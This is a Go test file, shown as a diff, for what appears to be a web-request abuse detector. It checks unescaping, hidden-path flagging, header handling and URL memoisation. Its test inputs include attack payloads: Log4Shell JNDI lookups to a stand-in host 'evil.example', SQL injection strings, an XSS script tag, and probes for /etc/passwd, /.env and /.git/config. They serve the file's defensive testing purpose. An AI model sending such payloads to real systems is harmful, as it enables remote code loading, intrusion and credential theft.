@@ -1,0 +1,305 @@
+package payload
+
+import (
+	"context"
+	"net/http"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/warden-dev/warden/abuse"
+)
+
+// refUnescape is percentUnescape as first written, byte by byte: the
+// reference for unescape and the faster percentUnescape.
+func refUnescape(src string, plus bool) []byte {
+	var dst []byte
+	for i := 0; i < len(src); i++ {
+		c := src[i]
+		switch {
+		case c == '%' && i+2 < len(src) && isHex(src[i+1]) && isHex(src[i+2]):
+			dst = append(dst, unhex(src[i+1])<<4|unhex(src[i+2]))
+			i += 2
+		case c == '+' && plus:
+			dst = append(dst, ' ')
+		default:
+			dst = append(dst, c)
+		}
+	}
+	return dst
+}
+
+func checkUnescape(t *testing.T, src string, plus bool) {
+	t.Helper()
+	want := refUnescape(src, plus)
+	if got := percentUnescape(nil, src, plus); string(got) != string(want) {
+		t.Fatalf("percentUnescape(%q, %v) = %q, want %q", src, plus, got, want)
+	}
+	var buf []byte
+	got, cm := unescape(&buf, src, plus)
+	if string(got) != string(want) {
+		t.Fatalf("unescape(%q, %v) = %q, want %q", src, plus, got, want)
+	}
+	if cm != charMask(want) {
+		t.Fatalf("unescape(%q, %v): classes %#x, want %#x", src, plus, cm, charMask(want))
+	}
+}
+
+func TestUnescape(t *testing.T) {
+	for _, src := range []string{
+		"", "a", "name", "blue+running+shoes", "a%20b", "%27%20OR%201=1", "%", "%4", "%4g", "ab%",
+		"%%41", "+%2B+", "/api/products/42", "caf%C3%A9", "x%00y", "a&b\\c", "\xc0\xaf", "12345678+",
+		"/*comment*/", "a+b/c*d", "tab\there", strings.Repeat("ab+", 40),
+	} {
+		for _, plus := range []bool{false, true} {
+			checkUnescape(t, src, plus)
+		}
+	}
+}
+
+func FuzzUnescape(f *testing.F) {
+	for _, s := range []string{"blue+running+shoes", "%27%20OR%201=1", "%4g+", "/a/b%2F..%2f", "\xc0\xaf+*"} {
+		f.Add(s, true)
+	}
+	f.Fuzz(func(t *testing.T, src string, plus bool) {
+		checkUnescape(t, src, plus)
+	})
+}
+
+// refHiddenPath is hiddenPath's first, byte by byte, form: the index of
+// the segment it flags, or -1.
+func refHiddenPath(p []byte) int {
+	for i := 0; i+2 < len(p); i++ {
+		if p[i] != '/' || p[i+1] != '.' {
+			continue
+		}
+		c := p[i+2]
+		if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c == '_') {
+			continue
+		}
+		if indexFold(p[i:], "/.well-known/") == 0 || equalFoldStr(p[i:], "/.well-known") {
+			continue
+		}
+		return i
+	}
+	return -1
+}
+
+func checkHiddenPath(t *testing.T, d *Detector, p string) {
+	t.Helper()
+	s := d.pool.Get().(*scan)
+	defer func() { s.reset(); d.pool.Put(s) }()
+	s.loc = "path"
+	s.hiddenPath([]byte(p))
+	want := refHiddenPath([]byte(p))
+	flagged := s.sigW[len(rules)+sigHiddenPath] > 0
+	if flagged != (want >= 0) {
+		t.Fatalf("hiddenPath(%q): flagged %v, want %v", p, flagged, want >= 0)
+	}
+	// The excerpt tells where the flagged segment starts.
+	if want >= 0 && s.best[cTraversal].excerpt != excerpt([]byte(p), want, maxExcerpt) {
+		t.Fatalf("hiddenPath(%q): excerpt %q, want %q", p, s.best[cTraversal].excerpt, excerpt([]byte(p), want, maxExcerpt))
+	}
+}
+
+func TestHiddenPath(t *testing.T) {
+	d := newTestDetector(t)
+	for _, p := range []string{"", "/", "/.", "/.e", "/.env", "/a.b/.git/config", "/x/.well-known/acme", "/.well-known",
+		"/.well-known/x/.env", "/a/./b", "/a/../b", "/static/app.js", "a.b", "/.1", "/._x", "..", "/..."} {
+		checkHiddenPath(t, d, p)
+	}
+}
+
+func FuzzHiddenPath(f *testing.F) {
+	for _, p := range []string{"/.env", "/a/./b", "/.well-known/x/.git", "/x.y/.Z"} {
+		f.Add(p)
+	}
+	d := newTestDetector(f)
+	f.Fuzz(func(t *testing.T, p string) {
+		checkHiddenPath(t, d, p)
+	})
+}
+
+// TestHeaderKinds checks the table that replaced the maps of skipped and
+// per-client header names: exact names only, and every name
+// commonHeaders looks for is one the walk does not inspect as other.
+func TestHeaderKinds(t *testing.T) {
+	for _, h := range skippedHeaders {
+		want := hdrSkipped
+		switch h {
+		case "User-Agent":
+			want = hdrUserAgent
+		case "Referer":
+			want = hdrReferer
+		case "Cookie":
+			want = hdrCookie
+		}
+		if got := kindOf(h); got != want {
+			t.Errorf("kindOf(%q) = %d, want %d", h, got, want)
+		}
+	}
+	for _, h := range perClientHeaders {
+		if got := kindOf(h); got != hdrPerClient {
+			t.Errorf("kindOf(%q) = %d, want per-client", h, got)
+		}
+	}
+	for _, h := range []string{"", "X", "accept", "ACCEPT", "Accept ", "X-Api-Key", "X-Forwarded-Host", "Cookies", "X-Forwarded-Fo"} {
+		if got := kindOf(h); got != hdrOther {
+			t.Errorf("kindOf(%q) = %d, want other", h, got)
+		}
+	}
+	for i, h := range probedHeaders {
+		if k := probedKinds[i]; k != hdrSkipped && k != hdrUserAgent && k != hdrPerClient {
+			t.Errorf("probed header %q is of kind %d: commonHeaders would miss it", h, k)
+		}
+	}
+}
+
+// padHeaders adds skipped headers to h until it is too large for
+// commonHeaders, so that the map is walked.
+func padHeaders(h http.Header) http.Header {
+	p := h.Clone()
+	for _, n := range []string{"Sec-Fetch-Mode", "Sec-Fetch-Site", "Sec-Fetch-Dest", "Priority", "Dnt"} {
+		if _, ok := p[n]; !ok {
+			p[n] = []string{"x"}
+		}
+	}
+	return p
+}
+
+// TestHeaderWalks checks that small header sets, which commonHeaders
+// reads with lookups, get the verdicts the walk of the map gives.
+func TestHeaderWalks(t *testing.T) {
+	const jndi = "${jndi:ldap://evil.example/a}"
+	sets := []http.Header{
+		{},
+		{"User-Agent": {"curl/8.5"}, "Accept": {"*/*"}},
+		{"User-Agent": {jndi}, "Accept": {"*/*"}},
+		{"User-Agent": {"curl/8.5"}, "X-Forwarded-For": {jndi}},
+		{"Accept": {"*/*"}, "Accept-Encoding": {"gzip"}, "Accept-Language": {"en"}, "X-Forwarded-For": {"1.2.3.4' or 1=1--"}},
+		{"Accept": {"*/*"}, "X-Api-Note": {"<script>alert(1)</script>"}},
+		{"Referer": {"https://x.example/?q=1 union select password from users--"}},
+		{"Cookie": {"id=1' or '1'='1"}, "Accept": {"*/*"}},
+		{"Authorization": {"Bearer ' or 1=1--"}, "Connection": {"close"}, "Content-Type": {jndi}},
+		{"X-Forwarded-For": {"10.0.0.1", jndi}},
+		{"Accept": {}, "User-Agent": {}},
+	}
+	for _, cfg := range []func(*Config){func(*Config) {}, func(c *Config) { c.Headers = []string{"X-Forwarded-For"} }} {
+		c := DefaultConfig()
+		cfg(&c)
+		d, err := New(c)
+		if err != nil {
+			t.Fatal(err)
+		}
+		d.memo, d.urls = nil, nil
+		for _, h := range sets {
+			small := &abuse.Request{Method: "GET", Path: "/a", Header: h, UserAgent: h.Get("User-Agent")}
+			big := &abuse.Request{Method: "GET", Path: "/a", Header: padHeaders(h), UserAgent: h.Get("User-Agent")}
+			if got, want := d.Detect(context.Background(), small), d.Detect(context.Background(), big); !reflect.DeepEqual(got, want) {
+				t.Errorf("headers %v, extra %v: verdict %+v, walking the map %+v", h, c.Headers, got, want)
+			}
+		}
+	}
+}
+
+func FuzzHeaderWalks(f *testing.F) {
+	f.Add("X-Forwarded-For", "${jndi:ldap://x/a}", "Accept", "*/*")
+	f.Add("Referer", "' or 1=1--", "User-Agent", "curl")
+	d := newTestDetector(f)
+	d.memo, d.urls = nil, nil
+	skipped := map[string]bool{}
+	for _, h := range append(skippedHeaders[:], perClientHeaders[:]...) {
+		skipped[h] = true
+	}
+	f.Fuzz(func(t *testing.T, n1, v1, n2, v2 string) {
+		if (kindOf(n1) != hdrOther) != skipped[n1] {
+			t.Fatalf("kindOf(%q) = %d", n1, kindOf(n1))
+		}
+		h := http.Header{n1: {v1}, n2: {v2}}
+		if n1 == n2 || len(h) > maxProbed-1 {
+			return
+		}
+		small := &abuse.Request{Path: "/", Header: h}
+		big := &abuse.Request{Path: "/", Header: padHeaders(h)}
+		got, want := d.Detect(context.Background(), small), d.Detect(context.Background(), big)
+		// Two inspected headers are visited in map order: compare the
+		// judgement, not which header the evidence quotes.
+		if got.Confidence != want.Confidence || got.Violation != want.Violation {
+			t.Fatalf("headers %q: verdict %+v, walking the map %+v", h, got, want)
+		}
+	})
+}
+
+// TestURLMemo checks that remembering clean targets never changes a
+// verdict, the number of values included: each request gets the same
+// verdict from a detector that saw it before as from one without memos.
+func TestURLMemo(t *testing.T) {
+	targets := []string{
+		"/api/products/42?fields=name",
+		"/api/v1/items?page=3&per_page=20&sort=name&q=blue+running+shoes",
+		"/items?id=-1+UNION+ALL+SELECT+username,password+FROM+users--",
+		"/.env",
+		"/static/.git/config?x=1",
+		"/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+		"/a?a=1&b=2&c=3&d=4&e=5&f=6&g=7&h=8&i=9&a=1&b=2",
+		"/p?x=aGVsbG8gd29ybGQgZnJvbSBiYXNlNjQ=",
+		"/p?file=/etc/passwd",
+		"/ab",
+	}
+	for _, maxValues := range []int{2048, 4, 6} {
+		c := DefaultConfig()
+		c.MaxValues = maxValues
+		memo, _ := New(c)
+		plain, _ := New(c)
+		plain.memo, plain.urls = nil, nil
+		for round := range 3 {
+			for _, target := range targets {
+				// An attack in a header after the target: it is found
+				// only while MaxValues leaves room for it.
+				r := withHeader(withHeader(get(target), "User-Agent", "' or 1=1--"), "X-Note", "${jndi:ldap://x/a}")
+				got, want := memo.Detect(context.Background(), r), plain.Detect(context.Background(), r)
+				if got.Confidence != want.Confidence || got.Violation != want.Violation || len(got.Messages) != len(want.Messages) {
+					t.Fatalf("max_values %d, round %d, %s: verdict with memo %+v, without %+v", maxValues, round, target, got, want)
+				}
+				r = get(target)
+				if got, want := memo.Detect(context.Background(), r), plain.Detect(context.Background(), r); !reflect.DeepEqual(got, want) {
+					t.Fatalf("max_values %d, round %d, %s alone: verdict with memo %+v, without %+v", maxValues, round, target, got, want)
+				}
+			}
+		}
+		_, values, ok := memo.urls.lookup("/api/products/42", "fields=name")
+		if maxValues > 3 && (!ok || values != 3) {
+			t.Errorf("max_values %d: clean target remembered %v with %d values, want 3", maxValues, ok, values)
+		}
+		for _, target := range targets[2:6] {
+			path, q, _ := strings.Cut(target, "?")
+			if _, _, ok := memo.urls.lookup(path, q); ok {
+				t.Errorf("%s: target with a signal remembered", target)
+			}
+		}
+	}
+	d := newTestDetector(t)
+	d.Detect(context.Background(), get("/once/123?x=1"))
+	if _, _, ok := d.urls.lookup("/once/123", "x=1"); ok {
+		t.Error("target remembered the first time it was seen")
+	}
+}
+
+func FuzzURLMemo(f *testing.F) {
+	f.Add("/api/products/42?fields=name")
+	f.Add("/items?id=-1+UNION+SELECT+1--")
+	f.Add("/.env")
+	memo := newTestDetector(f)
+	plain := newTestDetector(f)
+	plain.memo, plain.urls = nil, nil
+	f.Fuzz(func(t *testing.T, target string) {
+		path, q, _ := strings.Cut(target, "?")
+		r := &abuse.Request{Path: path, RawQuery: q}
+		want := plain.Detect(context.Background(), r)
+		for range 3 {
+			if got := memo.Detect(context.Background(), r); !reflect.DeepEqual(got, want) {
+				t.Fatalf("%q: verdict with memo %+v, without %+v", target, got, want)
+			}
+		}
+	})
+}
